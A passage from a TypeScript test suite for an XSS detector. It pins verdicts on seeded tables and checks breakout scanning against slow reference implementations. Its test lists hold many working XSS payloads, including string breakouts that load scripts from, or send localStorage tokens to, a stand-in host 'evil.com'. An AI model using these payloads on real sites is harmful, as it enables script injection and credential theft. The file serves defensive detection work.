  t.equal(rule(`${':'.repeat(1000)}"javascript:alert(1)`), 'xss.script-url/high');
  t.equal(rule('"javascript::::alert(1)'), 'xss.script-url/high');
  t.equal(rule('color::::expression(alert(1))'), 'xss.css-expression/high');
  t.equal(rule('x:::: expression(alert(1))'), 'xss.css-expression/high');
  t.equal(rule(`${':'.repeat(1000)}&${':'.repeat(1000)} u`), '-');
});

t.test('literal ampersands and escaped plain characters after colons', async (t) => {
  // An `&` entityAt cannot decode no longer gates the scheme and CSS scans, and scanCss passes a colon
  // before `\X` (X no hex digit, no blank) or a literal `&` without reading it: every decodable form
  // must still be read, after such runs and right after the colon.
  const rule = (v: string): string => {
    const d = detectXss(v);
    return d === undefined ? '-' : `${d.rule}/${d.confidence}`;
  };
  const pads = ['', ':\\'.repeat(500), ':&:'.repeat(300), 'a: b&'.repeat(300), ':\\(:&x'.repeat(200)];
  for (const p of pads) {
    t.equal(rule(`${p}x:\\65 xpression(alert(1))`), 'xss.css-expression/high', `\\65 after ${p.slice(0, 8)}`);
    t.equal(rule(`${p}x:\\45xpression(alert(1))`), 'xss.css-expression/high');
    t.equal(rule(`${p}x:&#101;xpression(alert(1))`), 'xss.css-expression/high');
    t.equal(rule(`${p}x:&#x65;xpression(alert(1))`), 'xss.css-expression/high');
    t.equal(rule(`${p}x:\\ expression(alert(1))`), 'xss.css-expression/high');
    t.equal(rule(`${p}x:&tab;expression(alert(1))`), 'xss.css-expression/high');
    t.equal(rule(`${p}behavior:&#117;rl(x.htc)`), 'xss.css-binding/high');
    t.equal(rule(`${p}"javascrip&#116;:alert(1)`), 'xss.script-url/high');
    t.equal(rule(`${p}"javascrip&#x74:alert(1)`), 'xss.script-url/high');
  }
  for (const v of [':\\'.repeat(3000), ':&:'.repeat(2000), 'R&D: Q&A & more: x\\y', 'C:\\Users\\me & you: ok', 'a:\\e & b']) t.equal(rule(v), '-', v.slice(0, 20));
});

// Pinned verdicts of a seeded table (session 16, dense punctuation): the digest of every verdict
// (rule and confidence) over generated strings that mix this detector's trigger characters, the
// sweep's dense units and attack fragments, as the build before the speed work gave them. A fast
// path that changes any verdict changes the digest (the same table caught a planted change of each
// fast path: scanJsEntities without its window, the scheme names by their last two letters).

const XSS_PIECES = [...'&{}\'"=(:; ab<>/'].concat(['&{', "&{'", 'a: b&', 'data', 'javascript', 'mocha', 'ta:', 'pt:', 'ha:', '&#58;', '&colon;', 'alert', 'x=1', 'onload=', '<a ', 'expression', 'url(', '{{', '}}', 'document.cookie']);

t.test('dense punctuation: verdicts pinned on a seeded table (&{, scheme colons)', async (t) => {
  const table = verdictTable(16, XSS_PIECES, 4000);
  t.equal(table.filter((s) => detectXss(s) !== undefined).length, 1666, 'findings in the table');
  t.equal(verdictDigest(table.map((s) => verdictKey(detectXss(s)))), 'be1035f2');
  // The `}` within 256 characters of the `&{`, a `(` or `=` before it.
  t.equal(detectXss(`&{${'x'.repeat(250)}(}`)?.rule, 'xss.js-breakout');
  t.equal(detectXss(`&{${'x'.repeat(260)}(}`), undefined);
  t.equal(detectXss(`&{x}(&{y=}`)?.rule, 'xss.js-breakout');
  t.equal(detectXss(`&{x}(&{y}=`), undefined);
});

// Round 2: the `<` units of the sweep (`<:{`, `<-:`, `<:\:`): a short name ending in `:` starts
// nothing unless a blank follows (a namespace prefix), and the tag-name scan skips every `<` that
// ltMayStartName rules out. The digest is the base build's (cd89112); it caught a planted
// ltMayStartName that dropped the namespace prefix (`<x: script>`).
const LT_PIECES = [...'<<<:-_ \t\0x{\\.>/"=?!'].concat(['script', 'iframe', 'embed', 'svg', 'x:', 'xs:', '<x: script>', '< script>', '<s c r i p t>', ' f o r m', '<?import', '<!ATTLIST a onclick', '<:{', '<-:', '<:\\:', 'ScRiPt', 'x:iframe ', 'abc:', 'onload=alert(1)', 'javascript:']);

t.test('dense punctuation: verdicts pinned on a seeded table (<:{, <-:, namespace prefixes)', async (t) => {
  const table = verdictTable(162, LT_PIECES, 4000);
  t.equal(table.filter((s) => detectXss(s) !== undefined).length, 2717, 'findings in the table');
  t.equal(verdictDigest(table.map((s) => verdictKey(detectXss(s)))), '99d5c5e6');
  t.equal(detectXss('<x: script>')?.rule, 'xss.script-tag');
  t.equal(detectXss('<x:{<x: script>')?.rule, 'xss.script-tag');
  t.equal(detectXss('<:{'.repeat(4000)), undefined);
});

// Session 17 (dense punctuation, second round): pieces around this round's fast paths. The digest
// is the base build's (7c28b55), verdicts with and without the caller's charMask; it caught the
// change planted in this round's fast path (a scratch differential of the base dist against this
// build, ~300k strings, found no difference).
const S17_PIECES: string[] = ["<?", "<!", "<", "?", "!", "import", "xml-stylesheet", "xml:namespace", "ATTLIST", "attlist", "a", "x", "i", "m", "t", "I", "M", "T", " onclick CDATA \"alert(1)\"", ">", " ", "<?im", "<?xm", "<!at", "\u0130", "\"", ":", "&", "{", "(", "a: b&", "javascript:", "alert(1)", "<a ", "/<a", "a<!a", "?<:", "data:", "href=\"x\""];

t.test('dense punctuation: verdicts pinned on a seeded table (session 17 fast paths)', async (t) => {
  const { findings, digest } = pinnedVerdicts(verdictTable(1701, S17_PIECES, 3000), (s) => detectXss(s), (s) => detectXss(s));
  t.equal(findings, 1314, 'findings in the table');
  t.equal(digest, 'fed28241');
  // The head is sliced only after `?im`, `?xm` or `!at`; the three instructions and ATTLIST still read.
  t.equal(detectXss('<?import namespace="t" implementation="#default#time2">')?.confidence, 'high');
  t.equal(detectXss('<?XML-STYLESHEET type="text/xsl" href="x"?>')?.confidence, 'high');
  t.equal(detectXss('<!DOCTYPE x [<!AtTlIsT x onload CDATA "alert(1)">]>')?.confidence, 'high');
  t.equal(detectXss('a<!a'.repeat(4096)), undefined);
});

// Session 18: the first pass loads each character once, one ahead, and tests the neighbours of a
// trigger character from locals before any reader is called (colon runs skipped to their last
// colon, the case a small dense number). The digest is the base build's (2ca00a4); it caught two
// planted changes (a `=` after a blank no longer gating the event scan; a colon run's last colon
// skipped). A scratch differential of the base dist against this build, 500,000 seeded strings,
// compared verdicts and the pass's gates and found no difference.
const S18_PIECES = [...' \t\0\u000b=:.(`{[$/*\\<&#+'].concat(['onload', 'onerror', 'alert(1)', 'alert', 'prompt', 'java', 'script', 'javascript', 'data', 'text/html,', 'mocha', 'expression(', 'e', 'u', 'rl(', '&#58;', '&#x3a;', '&colon;', '::', 'document', '.cookie', 'window', '.location', '{{constructor}}', '${', '*/', 'x', '+ADw-', '+AD4-', 'a: b&', 'x:/&0', "`\\'(", '\\x(', "&{'", "'::'", "-('\\0", "%'\\;", '</a>x', '<a ', 'style=', 'href="', '"', '>']);

t.test('dense punctuation: verdicts pinned on a seeded table (session 18 first pass)', async (t) => {
  const table = verdictTable(1801, S18_PIECES, 5000);
  const verdicts = table.map((s) => detectXss(s));
  t.equal(verdicts.filter((d) => d !== undefined).length, 1615, 'findings in the table');
  t.equal(verdictDigest(verdicts.map(verdictKey)), 'c0dc8290');
  // The last character has no character after it (lastChar), and a colon run ends where it ends.
  t.equal(detectXss('x onload =')?.rule, 'xss.event-handler');
  t.equal(detectXss('<b onload =alert(1)>')?.rule, detectXss('<b onload=alert(1)>')?.rule);
  t.equal(detectXss('a href=javascript:::alert(1)')?.confidence, detectXss('a href=javascript:alert(1)')?.confidence);
  t.equal(detectXss('::::'.repeat(4096) + 'x'), undefined);
});

// Session 18: scanHtmlTags passes over short end tags (`</a>`, `</td>`) for the XSS detector, whose
// first pass skips the scan when no tag would be visited (N_TAGS). The scan with the skip against
// the scan without it (the reference), and verdicts pinned as the base build (2ca00a4) gave them; a
// planted mismatch of the pass's limit (5 against the scan's 3) missed 2,914 of 50,000 scans in a
// scratch differential.
const END_PIECES = [...'<</>!?-"\'= \tab1x'].concat(['</a>', '</td>', '</A>', '</a', '</ab1>', '</abc>', '</a >', '</a">', '<!--', '-->', '<b>', '<a x="</a>">', '</script>', '</xmp>', '</textarea>', '</é>', '</1>', '">', "'>", '<img src=x onerror=alert(1)>', 'alert(1)', 'document.cookie', '<iframe>']);

t.test('short end tags: passed over by the scan, verdicts pinned', async (t) => {
  const table = verdictTable(1802, END_PIECES, 5000);
  let mismatches = 0;
  for (const s of table) {
    const all: string[] = [];
    scanHtmlTags(s, (tag) => {
      const name = s.slice(tag.start + 2, tag.end - 1);
      const short = tag.closing && tag.terminated && tag.attributes.length === 0 && name.length < 3 && [...name].every((ch) => /[A-Za-z0-9]/.test(ch));
      if (!short) all.push(JSON.stringify(tag));
    });
    const skipped: string[] = [];
    scanHtmlTags(s, (tag) => void skipped.push(JSON.stringify(tag)), 3);
    if (all.join('\n') !== skipped.join('\n')) mismatches++;
  }
  t.equal(mismatches, 0, 'the skip drops exactly the short end tags');
  const verdicts = table.map((s) => detectXss(s));
  t.equal(verdicts.filter((d) => d !== undefined).length, 3817, 'findings in the table');
  t.equal(verdictDigest(verdicts.map(verdictKey)), '86a69332');
  t.equal(detectXss('</a>x'.repeat(4096)), undefined);
  t.equal(detectXss('</a>x'.repeat(4096) + '<svg onload=alert(1)>')?.confidence, 'high');
  t.equal(detectXss('</a>x'.repeat(100) + '</textarea>')?.rule, 'xss.context-breakout');
});

t.test('complete JavaScript-string breakouts into loads, exfiltration and redirects are high (session 19)', async (t) => {
  // Reflected into `var q = '<value>';`: each closes the string, runs, and comments out or reopens
  // the rest. None uses a dialog or a document./window. chain, so all passed before.
  const high = [
    "';import('//evil.com/x.js')//",
    '";import("https://evil.com/x.js");//',
    "'+import('//evil.com/x.js')+'",
    "';location='//evil.com'//",
    "';location.href='//evil.com'//",
    "';top.location='//evil.com'//",
    "';navigator.sendBeacon('//evil.com',localStorage.token)//",
    "';new Image().src='//evil.com/?'+localStorage.token//",
    "';open('//evil.com')//",
    "\\';$.getScript('//evil.com/x.js')//",
    "';jQuery.globalEval(s)//",
    "';postMessage(localStorage.token,'*')//",
    "';onerror=alert;throw 1//",
    "'); fetch('//evil.com',{method:'POST',body:localStorage.getItem('t')})//",
    "';x=new XMLHttpRequest;x.open('GET','//evil.com/?'+sessionStorage.t);x.send()//",
    "';with(document)body.appendChild(createElement('script')).src='//evil.com/x.js'//",
    "'}; location = 'https://evil.com' ;var a='",
    "';new WebSocket('//evil.com')//",
    "';void fetch('//evil.com/?'+localStorage.t)//",
    "';return import('//evil.com/x.js')//",
    // Comments as blanks (review rA: these passed).
    "'/**/;import('//evil.com/x.js')//",
    "'/*a*/ /*b*/;fetch('//evil.com/?'+localStorage.t)//",
    "';import/**/('//evil.com/x.js')//",
    "\";location/**/='//evil.com'//",
    "';fetch /* x */ ('//evil.com')//",
  ];
  for (const v of high) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  const notHigh = [
    "'Hello', said the import manager // note",
    '"; this is fine" // open the door',
    "'-' // comment about location",
    "O'Brien; fetch the car // later",
    "'; open(1)",
    "'cause I said so; load the fetch() result // done",
    '"It\'s ok"; she said \'fetch(it)\'',
    '", "cookie": "abc", "url": "https://x.com/"',
    '", "src": "a", "innerHTML": "b" // c',
    "';location is where // it is",
    '"use strict"; fetch(url) // load',
    "'; // TODO: fetch(data) later",
    "let q = 'a'; fetch(q) // example",
    // Quoted prose and markdown with an operator at both ends (review rA): a name after a word, or
    // inside a string, is not code.
    '"- Don\'t call alert() in tests -"',
    '"-- see open() docs --"',
    '"- fixed write() bug -"',
    '"** Note: call open() first **"',
    '"; charset=utf-8" and fetch() returns //',
    '"-1","write(x)","-"',
  ];
  for (const v of notHigh) {
    const d = detectXss(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('breakout frame: bounded on 1 MB values that only look like a breakout', async (t) => {
  const mid = 'x'.repeat(1 << 20);
  for (const v of [`';${mid}//`, `'+${mid}+'`, `';${'a('.repeat(1 << 19)}//`, `';${'/'.repeat(1 << 20)}`, `'${';'.repeat(1 << 20)}'`]) {
    const t0 = process.hrtime.bigint();
    detectXss(v);
    const ms = Number(process.hrtime.bigint() - t0) / 1e6;
    t.ok(ms < 500, `${JSON.stringify(v.slice(0, 8))}… in ${ms.toFixed(1)} ms`);
  }
});

// A slow reference for the breakout scan (session 19): the frame read with slices, the names with a
// regex and Sets instead of the trie walk. On a seeded table of breakout-framed mixtures, every value
// the reference flags must be high, and every value the detector makes high with this rule must be
// one the reference flags. (A planted trie that dropped `sendBeacon`, or judged the last identifier
// before the tail with the tail's character, failed here.)
const REF_CALL = new Set('import fetch open eval Function atob setTimeout setInterval sendBeacon postMessage getScript globalEval ajax createElement appendChild write writeln insertAdjacentHTML WebSocket EventSource alert prompt confirm'.split(' '));
const REF_REF = new Set(['localStorage', 'sessionStorage', 'indexedDB', 'XMLHttpRequest']);
const REF_SET = new Set(['location', 'onerror', 'onload']);
const REF_MEMBER_SET = new Set(['src', 'href', 'action', 'innerHTML', 'outerHTML']);
const REF_KEYWORDS = new Set('new return void typeof await throw yield case delete in of else do instanceof'.split(' '));
const REF_VALUE = new Set(['alert', 'prompt', 'confirm', 'eval', 'Function']);
function refBreakout(s: string): boolean {
  let k = 0;
  while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
  // (Round 2: a number context, `1;import(…)//`: digits glued to `;` and a name, a `//` tail only.)
  const num = /^-?[0-9]{1,20}[)\]]*;[A-Za-z_$]/.exec(s.slice(k));
  while (k < s.length && k < 10 && s[k] === '\\') k++;
  let q = s[k];
  // (Session 20: up to 16 identifier characters and 2 backslashes may come before the quote.)
  const pre = /^[A-Za-z0-9_$]{1,16}\\{0,2}(['"`])/.exec(s.slice(k));
  if (num !== null) {
    k += num[0].length - 2;
    q = '';
  } else if (q !== "'" && q !== '"' && q !== '`') {
    if (pre === null) return false;
    q = pre[1]!;
    k += pre[0].length;
  } else k++;
  let stop = Math.min(s.length, k + 8);
  for (let c = 0; ; c++) {
    while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
    if (c < 2 && s.startsWith('/*', k)) {
      const close = s.indexOf('*/', k + 2);
      if (close === -1) return false;
      k = close + 2;
      stop = Math.min(s.length, k + 8);
      continue;
    }
    break;
  }
  if (k >= s.length) return false;
  // (Session 20: in a quoted context also `?` (a conditional, with its `:` unless `??`) and the
  // `in` / `instanceof` operators, each reopening the string after itself too.)
  const op = s[k]!;
  const w = q !== '' ? /^(instanceof|in)[ \t(\[/]/.exec(s.slice(k)) : null;
  if (w === null && !';+-*|&^%,'.includes(op) && !(q !== '' && op === '?')) return false;
  const head = w !== null ? k + w[1]!.length : k + 1;
  let e = s.length;
  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
  if (e <= head) return false;
  if (w === null && op === '?' && s[head] !== '?' && !s.slice(head).includes(':')) return false;
  let tail = -1;
  if (q !== '' && s[e - 1] === q) {
    let j = e - 2;
    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
    if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
    else if (j >= head && w === null && op === '?' && ':?'.includes(s[j]!)) tail = j;
    else if (w !== null && new RegExp(`(^|[^A-Za-z0-9_$])${w[1]}$`).test(s.slice(head, j + 1)) && j + 1 - w[1]!.length > head) tail = j + 1 - w[1]!.length;
  }
  if (tail === -1) {
    // (Session 20: or `<!--`, the later of the two.)
    let t = s.lastIndexOf('//', e - 1);
    if (t < head || s[t - 1] === ':') t = -1;
    const h = s.lastIndexOf('<!--', e - 1);
    if (h >= head && h > t) t = h;
    if (t === -1 || /[\n\r\u2028\u2029]/.test(s.slice(t + 2, e))) return false;
    tail = t;
  }
  const mid = s.slice(0, tail);
  // (Review rB: in a number context only the first statement counts, up to its first `;` or line
  // break: `1;Bakery Rossi;open (7-19);… // closed Sundays` is a semicolon CSV row.)
  const firstStop = q === '' ? head + s.slice(head, tail).search(/[;\n\r\u2028\u2029]|$/) : tail;
  for (const m of mid.slice(head).matchAll(/[A-Za-z0-9_$]+/g)) {
    const a = head + m.index!;
    if (a >= firstStop) break;
    if (a > 0 && /[A-Za-z0-9_$]/.test(s[a - 1]!)) continue; // the identifier began before the head
    let after = mid.slice(a + m[0].length).replace(/^[ \t]{0,4}/, '');
    if (after.startsWith('/*') && after.indexOf('*/', 2) !== -1) after = after.slice(after.indexOf('*/', 2) + 2).replace(/^[ \t]{0,4}/, '');
    const blanks = mid.length - a - m[0].length - after.length;
    const d = after.length > 0 ? after[0]! : '';
    const assign = d === '=' && after[1] !== '=';
    const name = m[0];
    // Code position: not inside a string (after a quote) nor after a word but a keyword (prose).
    const before = s.slice(head, a);
    if (/['"`][ \t]{0,4}$/.test(before)) continue;
    const word = /([A-Za-z0-9_$]+)[ \t]{1,4}$/.exec(before);
    if (word && !REF_KEYWORDS.has(word[1]!)) continue;
    if ((d === '(' || d === '`') && REF_CALL.has(name)) return true;
    if ((d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
    if ((assign || (d === '.' && blanks === 0)) && REF_SET.has(name)) return true;
    if (assign && s[a - 1] === '.' && REF_MEMBER_SET.has(name)) return true;
    if ((d === ',' || d === ')') && REF_VALUE.has(name) && /[(,][ \t]{0,4}$/.test(s.slice(0, a))) return true;
  }
  return false;
}

/**
 * A seeded table of head + pieces + tail values, each checked against refBreakout: the reference's
 * flags must be high, and the breakout rule must not fire without it. (Without a `(`, `=` or backtick
 * nothing is called or assigned, and the detector's pre-pass returns before any scan:
 * `';localStorage//` names storage and does nothing with it.) Returns the verdicts, for a digest.
 */
function breakoutTable(
  t: Test,
  o: { heads: string[]; tails: string[]; pieces: string[]; seed: number; n: number; pHead: number; maxPieces: number },
): { flagged: number; verdicts: string[] } {
  let seed = o.seed;
  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
  let flagged = 0;
  const verdicts: string[] = [];
  for (let i = 0; i < o.n; i++) {
    let s = r() < o.pHead ? o.heads[Math.floor(r() * o.heads.length)]! : '';
    const len = 1 + Math.floor(r() * o.maxPieces);
    for (let j = 0; j < len; j++) s += o.pieces[Math.floor(r() * o.pieces.length)];
    if (r() < o.pHead) s += o.tails[Math.floor(r() * o.tails.length)];
    const d = detectXss(s);
    const raw = refBreakout(s);
    const ref = /[(=`]/.test(s) && raw;
    if (ref) flagged++;
    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
    if (!raw && d?.reason.startsWith('A string breakout into code that loads')) t.fail(`detector's breakout rule without the reference: ${JSON.stringify(s)}`);
    verdicts.push(verdictKey(d));
  }
  return { flagged, verdicts };
}

t.test('breakout scan against a slow reference on a seeded table (session 19)', async (t) => {
  const heads = ["';", '"+', "')", "\\';", "'}-", '"|', "' ,", '`;', "'\t;", "'x;"];
  const tails = ['//', "+'", '// x', '"', ";var a='", '\n//', '//\n', '://x', "('", '=`'];
  const pieces = [...'\'"`\\;+-|&,)}] =(./*\n:?%é'].concat(['/*', '*/', '/**/', '//', 'fetch', 'import', 'location', 'localStorage', 'XMLHttpRequest', 'cookie', 'src', 'href', 'open', 'alert', 'onerror', 'innerHTML', 'sendBeacon', 'the', "O'Brien", 'http://x.com/', "'//evil.com'", 'x', 'new ', 'Image()', 'fetchy', 'xfetch', 'src2', '==']);
  const { flagged, verdicts } = breakoutTable(t, { heads, tails, pieces, seed: 1919, n: 60000, pHead: 0.8, maxPieces: 8 });
  t.ok(flagged > 600, `${flagged} values flagged by the reference`);
  // (Review rA: be40fdbe -> df1e4ee2, comments read as blanks and names only in code position;
  // both merged: b0bb16dc;
  // round 2: three values gone high, each a sink passed as an argument inside a breakout frame,
  // `' ,alert)innerHTML//…`, which the reference's BO_VALUE rule flags.)
  t.equal(verdictDigest(verdicts), 'b0bb16dc', 'verdicts of the table pinned');
});

t.test('breakouts round 2: a sink passed as a value, a capability named by pieces, a number context (session 19)', async (t) => {
  const high = [
    "';Reflect.apply(alert,null,[1])//",
    "';setTimeout(eval, 0, 'alert(1)')//",
    "';[1].map(Function)//",
    "';window['loc'+'ation']='//evil.com'//",
    "';self['loc'+'ation'].href='//evil.com'//",
    "';top[\"locat\"+\"ion\"]='//e.com';'",
    "';x['inner'+'HTML']='<b>'//",
    "';document['loc'+'ation']='//e.com'//",
    "';window['fet'+'ch']('//e.com')//",
    "1;import('//evil.com/x.js')//",
    "1);location='//evil.com'//",
    "-1;fetch('//e.com/?'+localStorage.token)//",
    "1;location='//evil.com/?a;b'//",
    "1;window['loc'+'ation']='//e.com';x//",
  ];
  for (const v of high) {
    const d = detectXss(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  const notHigh = [
    "';a['b'+'c']=1//",
    "';items['loc'+'ation']='x'//",
    "';window['loc'+'ation']//",
    "';x['src']//",
    "', alert)//",
    "window['loc'+'ation'] = x",
    '1, 2, fetch(url) // then parse',
    '3 - location= /home // see docs',
    '10 - open(file) //TODO',
    '2024-01-01 fetch() //',
    "1 - import('./mod.js') // lazy load",
    '1;fetch is nice//',
    '12;34 // ok',
    '100; // comment',
    // (Review rB: semicolon CSV rows with a numeric first column were high: the capability-like
    // word sat in a later field, or a later row.)
    '1;Bakery Rossi;open (7-19);Mo-Sa // closed Sundays',
    '1;Laden;open (Mo-Fr);//www.example.de',
    '10;status;open(3) // in progress',
    '1;name;city\n2;Anna;open (9-17)\n3;Bob;closed // holiday',
    '7;Lager;location=Halle 3 // Regal B',
    "1;Shop;window['loc'+'ation']=x // note",
  ];
  for (const v of notHigh) {
    const d = detectXss(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
});

t.test('number-context breakouts against the slow reference on a seeded table (review rB)', async (t) => {
  // Number heads, then fields and statements joined by `;` and line breaks, capability names early
  // and late. (Planted: the first-statement limit dropped from the names: 700+ failures.)
  const heads = ['1;', '-12;', '3);', '2024;', ' 7];', '5;\t'];
  const pieces = [';', '\n', ' ', '(', ')', '=', '.', "'", "'//e.com'", '+', '[', ']', "'loc'", "'ation'", 'window', 'fetch', 'open', 'location', 'import', 'localStorage', 'Anna', 'x', 'n/a', '(9-17)', 'alert', ','];
  const tails = ['//', ' // note', '//\n', '://x', ''];
  let seed = 4242;
  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
  let flagged = 0;
  for (let i = 0; i < 30000; i++) {
    let s = heads[Math.floor(r() * heads.length)]!;
    const len = 1 + Math.floor(r() * 9);
    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
    s += tails[Math.floor(r() * tails.length)];
    const d = detectXss(s);
    const raw = refBreakout(s);
    const ref = /[(=`]/.test(s) && raw;
    if (ref) flagged++;
    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
    if (!raw && d?.reason.startsWith('A string breakout into code that loads')) t.fail(`detector's breakout rule without the reference: ${JSON.stringify(s)}`);
  }
  t.ok(flagged > 300, `${flagged} values flagged by the reference`);
});

// A slow reference for bracketBreakoutName (round 2): inside a quote-headed breakout frame, a regex
// finds `root[ 'a' + 'b' ]` and the folded name is judged with Sets. On a seeded table, every value
// the reference flags is high and every value the rule reports is one it flags. (Planted: the
// BO_ROOTS check dropped, so `items['loc'+'ation']=` counted: 151 failures; any quote closing a
// piece, `['lo"+'cation']` read as `location`: 6.)
const BRACKET_ROOTS = new Set(['window', 'self', 'top', 'parent', 'frames', 'globalThis', 'document', 'this']);
function refBracket(s: string): boolean {
  if (!/^[ \t]{0,8}['"`][)\]} ]{0,8}[;+\-*|&^%,]/.test(s)) return false;
  const head = s.search(/[;+\-*|&^%,]/) + 1;
  let e = s.length;
  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
  const q = s.trimStart()[0];
  let tail = -1;
  if (s[e - 1] === q) {
    let j = e - 2;
    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
    if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
  }
  if (tail === -1) {
    const t2 = s.lastIndexOf('//', e - 1);
    if (t2 < head || s[t2 - 1] === ':' || /[\n\r\u2028\u2029]/.test(s.slice(t2 + 2, e))) return false;
    tail = t2;
  }
  const mid = s.slice(0, tail);
  const re = /([A-Za-z0-9_$]*)\[((?:[ \t]*(?:'[^'\\]*'|"[^"\\]*"|`[^`\\]*`)[ \t]*\+?)+)\]/g;
  re.lastIndex = head;
  for (let m = re.exec(mid); m !== null; m = re.exec(mid)) {
    const inner = m[2]!;
    if (/\+[ \t]*$/.test(inner) || /^[ \t]*\+/.test(inner) || m[0].length > 98 + m[1]!.length) {
      re.lastIndex = m.index + m[1]!.length + 1;
      continue;
    }
    const name = [...inner.matchAll(/'([^']*)'|"([^"]*)"|`([^`]*)`/g)].map((x) => x[1] ?? x[2] ?? x[3]).join('');
    const root = m[1]!.slice(-12);
    const rooted = BRACKET_ROOTS.has(root) && (m[1]!.length <= 12);
    const after = mid.slice(m.index + m[0].length).replace(/^[ \t]{0,4}/, '');
    const d = after[0] ?? '';
    const assign = d === '=' && after[1] !== '=';
    if ((d === '(' || d === '`') && REF_CALL.has(name)) return true;
    if (rooted && (d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
    if (rooted && (assign || d === '.') && REF_SET.has(name)) return true;
    if (assign && REF_MEMBER_SET.has(name)) return true;
    re.lastIndex = m.index + m[1]!.length + 1;
  }
  return false;
}

t.test('bracket names built by pieces in a breakout against a slow reference (round 2)', async (t) => {
  const heads = ["';", '"+', "')", "'}-", "' ,", '`;'];
  const tails = ['//', "+'", '// x', ";var a='", '\n//', '://x'];
  const pieces = [...'\'"`;+ =(.]['].concat(['window', 'self', 'document', 'this', 'items', 'x', "'loc'", "'ation'", '"loc"', '"ation"', "'inner'", "'HTML'", "'fet'", "'ch'", "'src'", "'localStorage'", "'local'", "'Storage'", '==', "'//e.com'", '(1)', "['loc'+'ation']", "['inner'+'HTML']", "['fet'+'ch']", "['lo'+\"cation\"]", "['lo\"+'cation']", "['lo'+\"cation']", "\"loc'"]);
  let seed = 2020;
  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
  let flagged = 0;
  const verdicts: string[] = [];
  for (let i = 0; i < 40000; i++) {
    let s = heads[Math.floor(r() * heads.length)]!;
    const len = 1 + Math.floor(r() * 7);
    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
    s += tails[Math.floor(r() * tails.length)];
    const d = detectXss(s);
    const ref = /[(=`]/.test(s) && refBracket(s);
    if (ref) flagged++;
    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
    if (!refBracket(s) && d?.reason.includes('by a built name')) t.fail(`bracket rule without the reference: ${JSON.stringify(s)}`);
    verdicts.push(verdictKey(d));
  }
  t.ok(flagged > 200, `${flagged} values flagged by the reference`);
  t.equal(verdictDigest(verdicts), '9bbd61c2', 'verdicts of the table pinned');
});

t.test('breakouts through a conditional, in / instanceof, and template-literal code (session 20)', async (t) => {
  // Each high value passed at f2d1800 (allow at every paranoia).
  const high = [
    "'?import('//evil.com/x.js'):'",
    "\"?fetch('//evil.com/'+localStorage.t):\"",
    "'?1:import('//evil.com/x.js')//",
    "'??import('//evil.com/x.js')??'",
    "'in import('//evil.com/x.js')in'",
    "'instanceof import('//evil.com/x.js')instanceof'",
    "'in(import('//evil.com/x.js'))//",
    "${import('//evil.com/x.js')}",
    "x${ fetch('//evil.com/?'+localStorage.t) }y",
    "${await import('//evil.com/x.js')}",
    "${new WebSocket('wss://evil.com')}",
    "${navigator.sendBeacon('//evil.com',localStorage.t)}",
    "${location='//evil.com'}",
    "${window.location.replace('//evil.com')}",
    "${location.href = '//evil.com'}",
    // An escaped backtick keeps the enclosing literal open (review rB's prose exemption excludes it).
    "\\`${import('//evil.com/x.js')}",
    "x\\`${fetch('//evil.com/?'+localStorage.t)}",
    // The string's own text before the closing quote.
    "a';import('//evil.com/x.js')//",
    "abc\\';fetch('//evil.com/'+localStorage.t)//",
    "x\"+fetch('//evil.com/?'+localStorage.t)+\"",
    "1';import('//evil.com/x.js')//",
    // An HTML-like comment as the tail.
    "';fetch('https://evil.com/'+localStorage.t)<!--",
    "';import(atob('Ly9ldmlsLmNvbS94Lmpz'))<!--",
  ];
  for (const v of high) t.equal(detectXss(v)?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(detectXss(v))}`);
  const notHigh = [
    "'in stock'",
    '"in progress","fetch(x)","-"',
    "'? Why call fetch() here? //later",
    '"?page=2&q=import(x)//"',
    "'inside fetch(x) //",
    "'? see import('x') //",
    '${location.origin}/api',
    '${location.href}',
    '${localStorage.token}',
    '${atob(s)}',
    'Bearer ${localStorage.getItem("t")}',
    'Use `${setInterval(tick, 1000)}` here',
    '${fetchAll(x)}',
    '${user.fetch(x)}',
    '${location == x}',
    "O'Brien;fetch(x)//",
    "It's fine; call fetch() later //",
    "don't+fetch(x)//",
    "two words';import(x)//",
    "';fetch(x)<!--\nmore",
    "'; see <!-- fetch(x) -->",
    // Review rB: JS quoted in prose or markdown (a backtick opens the `${…}`), high at f7b8f6a.
    'Use a template like `Hello ${user.name}` and never `${fetch(url)}` in template docs.',
    "In tagged templates, `${import('./mod.js')}` is evaluated eagerly.",
    "I'd write `${fetch('/api')}` — no, template literals don't await.",
  ];
  for (const v of notHigh) t.not(detectXss(v)?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(detectXss(v))}`);
});

t.test('conditional and in / instanceof heads against the slow reference on a seeded table (session 20)', async (t) => {
